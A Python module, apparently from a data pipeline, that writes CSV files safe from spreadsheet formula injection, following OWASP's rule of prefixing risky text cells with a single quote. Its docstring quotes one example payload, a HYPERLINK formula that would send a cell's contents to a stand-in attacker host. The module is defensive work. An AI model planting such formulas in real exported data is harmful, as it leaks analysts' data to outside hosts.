"""CSV that a spreadsheet opens as data, never as formulas: the one writer of
every CSV the project produces.

Text in the raw tables comes from whoever can produce to Kafka (the event
contract accepts any 1–200 characters), so a ``user_id`` of
``=HYPERLINK("https://evil.example/?"&A1,"open")`` would be evaluated by the
analyst's spreadsheet. OWASP's CSV-injection rule: a cell beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote, and every cell is quoted with embedded quotes doubled. Only text is
touched: integers and decimals are written unquoted as numbers (a negative
amount stays a number), datetimes as ISO-8601 (they begin with a digit).
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from typing import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a CSV cell: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):
        return value
    text = value.isoformat() if isinstance(value, (datetime, date)) else str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_line(values: Iterable) -> str:
    """One CSV record (``\\r\\n``-terminated): text cells quoted and neutralised,
    numbers unquoted (``csv.QUOTE_NONNUMERIC``)."""
    buf = io.StringIO()
    csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC).writerow([safe_cell(v) for v in values])
    return buf.getvalue()
